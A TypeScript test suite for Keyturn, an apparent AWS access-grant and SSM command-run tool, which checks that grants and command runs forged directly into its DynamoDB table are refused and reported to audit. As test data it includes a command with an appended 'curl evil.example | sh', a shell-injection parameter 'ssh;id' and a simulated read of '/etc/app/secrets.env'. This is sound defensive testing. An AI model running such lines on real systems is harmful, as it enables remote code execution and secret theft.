import { PutCommand } from '@aws-sdk/lib-dynamodb';
import { runIndexKeys } from '../../src/adapters/dynamodb/command-run-entity';
import { createDynamoCommandRunStore } from '../../src/adapters/dynamodb/command-run-store';
import { grantIndexKeys } from '../../src/adapters/dynamodb/grant-entity';
import { createDynamoGrantStore } from '../../src/adapters/dynamodb/grant-store';
import { SimulatedAccount } from '../../src/adapters/sandbox/simulated-account';
import type { Deps } from '../../src/app/deps';
import { handleJob } from '../../src/app/handle-job';
import { recordInvocationEvent } from '../../src/app/record-invocation-event';
import { sweep } from '../../src/app/sweep';
import type { CommandRun } from '../../src/domain/command-run';
import type { Grant } from '../../src/domain/grant';
import type { Job } from '../../src/ports/work-queue';
import { startTestTable, type TestTable } from '../support/dynalite';
import {
  onePlace,
  ManualClock,
  MemoryGrantStore,
  RecordingChat,
  RecordingQueue,
  runFakes,
  sessionFakes,
  silentLogger,
} from '../support/fakes';
import { runConfig } from '../support/run-scenarios';

/*
 * Issue 11, point 5: records written straight into Keyturn's table (as anyone who can reach the
 * local dynalite, or write the Lambda table, could) are never acted on. The worker and the sweeper
 * re-derive each decision from the configuration and the record's own history, fail the record with
 * the reason, tell the audit channel, and make no IAM or SSM call for it.
 */

const NOW = '2026-11-23T10:00:00Z';
/** Ten minutes ago: long enough for the sweeper to think the apply job was lost, and re-drive it. */
const APPROVED_AT = '2026-11-23T09:50:00Z';
const REQUESTED_AT = '2026-11-23T09:48:00Z';

let table: TestTable;
beforeAll(async () => {
  table = await startTestTable();
});
afterAll(async () => {
  await table?.close();
});

function world() {
  const config = runConfig();
  const clock = new ManualClock(new Date(NOW));
  const grants = createDynamoGrantStore({ documentClient: table.documentClient, tableName: table.tableName });
  const runs = createDynamoCommandRunStore({
    documentClient: table.documentClient,
    tableName: table.tableName,
  });
  const queue = new RecordingQueue();
  const chat = new RecordingChat({ S0SREGROUP: ['U0DAVE'] });
  const account = new SimulatedAccount({ ...config.aws, nodes: config.sandbox.fleet, clock });
  const fakes = runFakes({ config, clock });
  const deps: Deps = {
    config,
    grants,
    queue,
    aws: onePlace({ access: account, fleet: account, commands: fakes.commands, simulated: true }),
    chat,
    clock,
    logger: silentLogger,
    newId: () => 'unused',
    readiness: { maxWaitMs: 2_000, firstDelayMs: 10 },
    ...sessionFakes(new MemoryGrantStore()),
    runChat: fakes.runChat,
    runs,
  };
  const drain = async () => {
    for (let ran = 0; queue.jobs.length > 0; ran++) {
      if (ran > 100) throw new Error('the queue never emptied');
      await handleJob(deps, queue.jobs.shift() as Job);
    }
  };
  return { deps, config, clock, grants, runs, queue, chat, account, commands: fakes.commands, drain };
}

let seq = 0;
/**
 * An `approved` grant as an attacker would write it, item by item, with the PutItem any table writer
 * has; by default it looks exactly like one Keyturn recorded (alice, 1h, approved by carol).
 */
async function writeGrant(overrides: Partial<Grant> = {}): Promise<Grant> {
  const id = `forged${++seq}`;
  const grant: Grant = {
    id,
    requester: 'U0ALICE',
    principal: { kind: 'access-role', name: 'keyturn-u0alice', sessionName: 'alice' },
    target: 'prod-raspi',
    durationMinutes: 60,
    reason: 'nothing to see',
    status: 'approved',
    version: 2,
    requestedAt: REQUESTED_AT,
    approvals: [{ by: 'U0CAROL', at: APPROVED_AT }],
    decidedBy: 'U0CAROL',
    decidedAt: APPROVED_AT,
    startsAt: APPROVED_AT,
    expiresAt: '2026-11-23T10:50:00Z',
    history: [
      { at: REQUESTED_AT, from: null, to: 'pending', by: 'U0ALICE' },
      { at: APPROVED_AT, from: 'pending', to: 'approved', by: 'U0CAROL' },
    ],
    ...overrides,
  };
  await table.documentClient.send(
    new PutCommand({
      TableName: table.tableName,
      Item: { ...grant, ...grantIndexKeys(grant), _et: 'Grant', pk: `GRANT#${id}`, sk: 'GRANT' },
    }),
  );
  return grant;
}

async function writeRun(overrides: Partial<CommandRun> = {}): Promise<CommandRun> {
  const id = `forgedrun${++seq}`;
  // The SendCommand limits Keyturn stores with a run: its snippet's (run-snippet.ts).
  const snippet = runConfig().snippets[overrides.snippet ?? 'logs'];
  const run: CommandRun = {
    id,
    snippet: 'logs',
    target: 'prod-raspi',
    params: { service: 'ssh', lines: '100' },
    command: "journalctl -u 'ssh' -n '100' --no-pager",
    requester: 'U0DAVE',
    channel: 'C0WORK',
    status: 'queued',
    version: 1,
    requestedAt: NOW,
    needsApproval: false,
    approvals: [],
    comment: `Keyturn run ${id} by U0DAVE: logs on prod-raspi`,
    deliveryTimeoutSeconds: snippet?.deliveryTimeout ?? 300,
    ...(snippet?.timeout !== undefined ? { executionTimeoutSeconds: snippet.timeout } : {}),
    ...(snippet?.maxConcurrency !== undefined ? { maxConcurrency: snippet.maxConcurrency } : {}),
    ...(snippet?.maxErrors !== undefined ? { maxErrors: snippet.maxErrors } : {}),
    simulated: true,
    ...overrides,
  };
  await table.documentClient.send(
    new PutCommand({
      TableName: table.tableName,
      Item: { ...run, ...runIndexKeys(run), _et: 'CommandRun', pk: `RUN#${id}`, sk: 'RUN' },
    }),
  );
  return run;
}

/** IAM operations of the AccessControl port; SSM's are the Fleet's and SendCommand. */
const IAM_OPS = new Set([
  'createPolicy',
  'attachPolicy',
  'detachPolicy',
  'deletePolicy',
  'createPolicyVersion',
  'setRunAs',
  'clearRunAs',
  'attachedPolicyQuota',
  'canStartSession',
]);

type World = ReturnType<typeof world>;

async function expectRefused(w: World, grantId: string, reason: RegExp) {
  const grant = await w.grants.get(grantId);
  expect(grant?.status).toBe('failed');
  expect(grant?.failureReason).toMatch(/^refused by the worker: /);
  expect(grant?.failureReason).toMatch(reason);
  expect(grant?.history.at(-1)).toMatchObject({ from: 'approved', to: 'failed', by: 'keyturn' });
  expect(grant?.history.at(-1)?.note).toMatch(reason);
  expect(w.account.calls.filter((c) => IAM_OPS.has(c.op))).toEqual([]);
  expect(w.account.policyArns()).toEqual([]);
  expect(w.chat.audits).toEqual([
    {
      channel: 'C0AUDIT',
      event: expect.objectContaining({
        kind: 'grant-refused',
        step: 'apply',
        reason: expect.stringMatching(reason),
      }),
    },
  ]);
}

describe('approved grants written straight into the table', () => {
  it.each([
    [
      'an unmapped IAM user until 2036',
      { principal: { kind: 'user', name: 'mallory' }, expiresAt: '2036-01-01T00:00:00Z' },
      /IAM user mallory, but U0ALICE maps to access role keyturn-u0alice/,
    ],
    [
      'a requester nobody mapped',
      { requester: 'U0MALLORY', principal: { kind: 'user', name: 'mallory' } },
      /U0MALLORY is not mapped/,
    ],
    [
      'a history with no approval at all',
      { history: [{ at: REQUESTED_AT, from: null, to: 'pending', by: 'U0ALICE' }] },
      /records no approval/,
    ],
    [
      'an approval by someone who is not an approver',
      {
        history: [
          { at: REQUESTED_AT, from: null, to: 'pending', by: 'U0ALICE' },
          { at: APPROVED_AT, from: 'pending', to: 'approved', by: 'U0BOB' },
        ],
      },
      /0 approvals by current approvers .*U0BOB is not an approver/,
    ],
    [
      'an approval by the requester',
      {
        requester: 'U0CAROL',
        principal: { kind: 'access-role', name: 'keyturn-u0carol', sessionName: 'carol' },
        history: [
          { at: REQUESTED_AT, from: null, to: 'pending', by: 'U0CAROL' },
          { at: APPROVED_AT, from: 'pending', to: 'approved', by: 'U0CAROL' },
        ],
      },
      /approval by the requester U0CAROL/,
    ],
    [
      'a window longer than maxDuration',
      { durationMinutes: 600, expiresAt: '2026-11-23T19:50:00Z' },
      /600 minutes, over the target's maxDuration of 240/,
    ],
    [
      'a window longer than the duration asked for',
      { expiresAt: '2026-11-23T13:50:00Z' },
      /window is 240 minutes long, not the 60/,
    ],
    [
      'a window that starts before the approval',
      { startsAt: '2026-11-23T09:00:00Z' },
      /starts at 2026-11-23T09:00:00Z, not at the approval/,
    ],
  ] as const)(
    'the sweeper re-drives %s: refused, failed with the reason, no IAM call, audit told',
    async (_label, forged, reason) => {
      const w = world();
      const grant = await writeGrant(forged as Partial<Grant>);

      const report = await sweep(w.deps);
      expect(report.redriven).toBeGreaterThanOrEqual(1);
      expect(w.queue.jobs).toContainEqual({ kind: 'apply-grant', grantId: grant.id });
      await w.drain();

      await expectRefused(w, grant.id, reason);
    },
  );

  it('a queued apply job for a forged grant is refused the same way', async () => {
    const w = world();
    const grant = await writeGrant({ principal: { kind: 'role', name: 'OrganizationAccountAccessRole' } });
    await handleJob(w.deps, { kind: 'apply-grant', grantId: grant.id });
    await expectRefused(w, grant.id, /IAM role OrganizationAccountAccessRole/);
    expect(w.account.calls).toEqual([]);
  });

  it('an apply job for a grant whose target is named like a property every object has is refused as an unknown target', async () => {
    const w = world();
    const grant = await writeGrant({ target: 'constructor' });
    await handleJob(w.deps, { kind: 'apply-grant', grantId: grant.id });
    await expectRefused(w, grant.id, /target constructor is not in the configuration/);
  });

  it('fails closed when Slack cannot say who is in the approver group that approved', async () => {
    const w = world();
    w.chat.userGroupMembers = async () => {
      throw new Error('usergroups.users.list: ratelimited');
    };
    const grant = await writeGrant({
      history: [
        { at: REQUESTED_AT, from: null, to: 'pending', by: 'U0ALICE' },
        { at: APPROVED_AT, from: 'pending', to: 'approved', by: 'U0DAVE' },
      ],
    });
    await handleJob(w.deps, { kind: 'apply-grant', grantId: grant.id });
    await expectRefused(w, grant.id, /could not say who is in approver group S0SREGROUP/);
  });

  it('a grant recorded as Keyturn records it is still applied', async () => {
    const w = world();
    const grant = await writeGrant({
      startsAt: NOW,
      expiresAt: '2026-11-23T11:00:00Z',
      history: [
        { at: REQUESTED_AT, from: null, to: 'pending', by: 'U0ALICE' },
        { at: NOW, from: 'pending', to: 'approved', by: 'U0DAVE' },
      ],
    });
    await handleJob(w.deps, { kind: 'apply-grant', grantId: grant.id });
    expect((await w.grants.get(grant.id))?.status).toBe('active');
    expect(w.chat.audits).toEqual([]);
  });
});

describe('the cost of checking', () => {
  it('an approval by a directly listed approver is confirmed without asking Slack for any group', async () => {
    const w = world();
    const grant = await writeGrant({
      startsAt: NOW,
      expiresAt: '2026-11-23T11:00:00Z',
      history: [
        { at: REQUESTED_AT, from: null, to: 'pending', by: 'U0ALICE' },
        { at: NOW, from: 'pending', to: 'approved', by: 'U0CAROL' },
      ],
    });
    await handleJob(w.deps, { kind: 'apply-grant', grantId: grant.id });
    expect((await w.grants.get(grant.id))?.status).toBe('active');
    expect(w.chat.groupLookups).toBe(0);
  });
});

describe('an approved extension written straight into the table', () => {
  it('is refused: no new policy version, the grant ends failed with the reason, audit told', async () => {
    const w = world();
    const grant = await writeGrant({
      startsAt: NOW,
      expiresAt: '2026-11-23T11:00:00Z',
      history: [
        { at: REQUESTED_AT, from: null, to: 'pending', by: 'U0ALICE' },
        { at: NOW, from: 'pending', to: 'approved', by: 'U0CAROL' },
      ],
    });
    await handleJob(w.deps, { kind: 'apply-grant', grantId: grant.id });
    await w.drain();
    const active = await w.grants.get(grant.id);
    expect(active?.status).toBe('active');
    w.account.calls.length = 0;

    // The extension "approved" by alice herself, for ten years.
    const tampered: Grant = {
      ...(active as Grant),
      version: (active as Grant).version + 1,
      extension: {
        minutes: 60,
        requestedBy: 'U0ALICE',
        requestedAt: NOW,
        approvals: [{ by: 'U0ALICE', at: NOW }],
        state: 'approved',
        newExpiresAt: '2036-11-23T12:00:00Z',
        decidedBy: 'U0ALICE',
        decidedAt: NOW,
      },
      history: [
        ...(active as Grant).history,
        { at: NOW, from: 'active', to: 'active', event: 'extension-requested', by: 'U0ALICE' },
        { at: NOW, from: 'active', to: 'active', event: 'extension-approved', by: 'U0ALICE' },
      ],
    };
    await table.documentClient.send(
      new PutCommand({
        TableName: table.tableName,
        Item: {
          ...tampered,
          ...grantIndexKeys(tampered),
          _et: 'Grant',
          pk: `GRANT#${grant.id}`,
          sk: 'GRANT',
        },
      }),
    );

    await handleJob(w.deps, { kind: 'apply-extension', grantId: grant.id });

    expect(w.account.calls.filter((c) => c.op === 'createPolicyVersion')).toEqual([]);
    const ending = await w.grants.get(grant.id);
    expect(ending?.expiresAt).toBe('2026-11-23T11:00:00Z');
    expect(ending?.ending).toMatchObject({ status: 'failed', by: 'keyturn' });
    expect(ending?.history.at(-1)?.note).toMatch(
      /extension refused by the worker: the extension would end at 2036/,
    );
    expect(w.chat.audits).toEqual([
      { channel: 'C0AUDIT', event: expect.objectContaining({ kind: 'grant-refused', step: 'extension' }) },
    ]);

    // The usual revoke path ends it: the policy is gone and the grant is failed.
    await w.drain();
    const ended = await w.grants.get(grant.id);
    expect(ended?.status).toBe('failed');
    expect(w.account.policyArns()).toEqual([]);
  });
});

describe('active grants written straight into the table', () => {
  it("a due grant naming another policy: the sweeper's revoke neither detaches nor deletes that policy", async () => {
    const w = world();
    const foreign = 'arn:aws:iam::123456789012:policy/ProdDeploy';
    const grant = await writeGrant({
      status: 'active',
      principal: { kind: 'role', name: 'ci-deployer' },
      policyArn: foreign,
      expiresAt: '2026-11-23T09:55:00Z',
      startsAt: '2026-11-23T08:55:00Z',
    });

    await sweep(w.deps);
    await w.drain();

    const named = w.account.calls.filter((c) => JSON.stringify(c.args).includes(foreign));
    expect(named).toEqual([]);
    expect((await w.grants.get(grant.id))?.status).toBe('expired');
  });

  it("a due grant naming a principal its requester does not map to: the revoke leaves that principal's Run As tag alone", async () => {
    const w = world();
    const grant = await writeGrant({
      status: 'active',
      principal: { kind: 'user', name: 'ops-lead' },
      runAsSet: 'pi-ops',
      expiresAt: '2026-11-23T09:55:00Z',
      startsAt: '2026-11-23T08:55:00Z',
    });

    await sweep(w.deps);
    await w.drain();

    expect(w.account.calls.filter((c) => c.op === 'clearRunAs')).toEqual([]);
    expect((await w.grants.get(grant.id))?.status).toBe('expired');
  });
});

describe('queued runs written straight into the table', () => {
  it.each([
    [
      'a tampered command',
      { command: "journalctl -u 'ssh' -n '100' --no-pager; curl evil.example | sh" },
      /not what the snippet renders/,
    ],
    [
      'a snippet the target does not allow',
      { snippet: 'uptime', command: 'uptime', params: {} },
      /not allowed on prod-raspi/,
    ],
    [
      'a parameter its pattern refuses',
      { params: { service: 'ssh;id', lines: '100' }, command: "journalctl -u 'ssh;id' -n '100' --no-pager" },
      /service fails its rules/,
    ],
    [
      'an approval snippet nobody approved',
      {
        snippet: 'restart-agent',
        params: {},
        command: 'sudo systemctl restart amazon-ssm-agent',
        needsApproval: true,
      },
      /0 approvals by current approvers/,
    ],
    [
      'an approval snippet approved by its requester',
      {
        snippet: 'restart-agent',
        params: {},
        command: 'sudo systemctl restart amazon-ssm-agent',
        needsApproval: true,
        approvals: [{ by: 'U0DAVE', at: NOW }],
      },
      /approval by the requester U0DAVE/,
    ],
    [
      'a snippet that rolls out 10 nodes at a time stored to reach every node at once',
      { maxConcurrency: '100%' },
      /maxConcurrency \(100%\) is not the snippet's \(10\)/,
    ],
    [
      'a requester who may not run on the target',
      { requester: 'U0BOB', comment: 'Keyturn run by U0BOB' },
      /U0BOB was neither a runner of prod-raspi nor holding an active grant/,
    ],
  ] as const)(
    '%s: the run fails with the reason, nothing is sent, audit told',
    async (_label, forged, reason) => {
      const w = world();
      const run = await writeRun(forged as Partial<CommandRun>);

      await handleJob(w.deps, { kind: 'start-run', runId: run.id });

      const stored = await w.runs.get(run.id);
      expect(stored?.status).toBe('failed');
      expect(stored?.failureReason).toMatch(/^refused by the worker: /);
      expect(stored?.failureReason).toMatch(reason);
      expect(w.commands.sent).toEqual([]);
      expect(w.account.calls).toEqual([]);
      expect(w.chat.audits).toEqual([
        {
          channel: 'C0AUDIT',
          event: expect.objectContaining({ kind: 'run-refused', reason: expect.stringMatching(reason) }),
        },
      ]);
    },
  );

  it('a command rewritten in the table after the check, while the run message is posted, is never sent', async () => {
    const w = world();
    const run = await writeRun();
    const tampered = "journalctl -u 'ssh' -n '100' --no-pager; curl evil.example | sh";
    const post = w.deps.runChat.postRunMessage.bind(w.deps.runChat);
    // The check has passed by the time the message goes out; the send comes after it.
    w.deps.runChat.postRunMessage = async (channel, view) => {
      const current = (await w.runs.get(run.id)) as CommandRun;
      const forged = { ...current, command: tampered, version: current.version + 1 };
      await table.documentClient.send(
        new PutCommand({
          TableName: table.tableName,
          Item: { ...forged, ...runIndexKeys(forged), _et: 'CommandRun', pk: `RUN#${run.id}`, sk: 'RUN' },
        }),
      );
      return post(channel, view);
    };

    await handleJob(w.deps, { kind: 'start-run', runId: run.id });

    expect(w.commands.sent.flatMap((s) => s.commands)).not.toContain(tampered);
    const stored = await w.runs.get(run.id);
    expect(stored?.status).toBe('failed');
    expect(stored?.failureReason).toMatch(/not what the snippet renders/);
  });

  /** Someone else's shell command in the account, whose id the attacker learnt, and a run pointing at it. */
  async function foreignCommandRun(w: World) {
    const node = w.config.sandbox.fleet[0] as { id: string };
    w.commands.script(node.id, { status: 'Success', exitCode: 0, stdout: 'DB_PASSWORD=hunter2', stderr: '' });
    const { commandId } = await w.commands.sendCommand({
      documentName: 'AWS-RunShellScript',
      targetTags: w.config.targets['prod-raspi']?.tags ?? {},
      commands: ['cat /etc/app/secrets.env'],
      deliveryTimeoutSeconds: 300,
      comment: 'nightly secrets check',
    });
    const run = await writeRun({ status: 'running', commandId, sentAt: NOW, channel: 'C0PUBLIC' });
    return { run, commandId, nodeId: node.id };
  }

  it("a running run pointing at another tool's command: polling posts none of that command's output", async () => {
    const w = world();
    const { run } = await foreignCommandRun(w);

    await handleJob(w.deps, { kind: 'track-run', runId: run.id });

    expect(JSON.stringify(w.deps.runChat)).not.toContain('hunter2');
    expect(await w.runs.nodeResults(run.id)).toEqual([]);
  });

  it("a running run pointing at another tool's command: its status event is not Keyturn's, and posts nothing", async () => {
    const w = world();
    const { run, commandId, nodeId } = await foreignCommandRun(w);
    const event = {
      detail: {
        'command-id': commandId,
        'instance-id': nodeId,
        status: 'Success',
        'document-name': 'AWS-RunShellScript',
      },
    };

    expect(await recordInvocationEvent(w.deps, event)).toBe('not-ours');
    expect(JSON.stringify(w.deps.runChat)).not.toContain('hunter2');
    expect(await w.runs.nodeResults(run.id)).toEqual([]);
  });

  it('a run recorded as Keyturn records it is still sent', async () => {
    const w = world();
    const run = await writeRun();
    await handleJob(w.deps, { kind: 'start-run', runId: run.id });
    expect(w.commands.sent).toHaveLength(1);
    expect(w.chat.audits).toEqual([]);
  });
});
